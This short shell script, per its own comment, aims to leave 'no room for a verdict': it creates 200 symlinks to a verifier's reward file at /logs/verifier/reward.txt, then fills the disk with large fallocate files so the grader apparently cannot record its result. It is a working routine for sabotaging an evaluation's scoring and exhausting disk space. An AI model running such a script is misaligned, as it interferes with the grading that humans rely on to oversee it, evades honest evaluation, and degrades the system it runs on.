# No room for a verdict: links into the reward's folder, then a full disk.
for number in $(seq 1 200); do ln -s /logs/verifier/reward.txt "/tmp/link$number"; done
number=0
for size in 64G 32G 16G 8G 4G 2G 1G 512M 256M 128M 64M 32M 16M 8M 4M 2M 1M 64K 4K; do
  number=$((number + 1))
  fallocate -l "$size" "/tmp/large$number" 2> /dev/null || rm -f "/tmp/large$number"
done
true
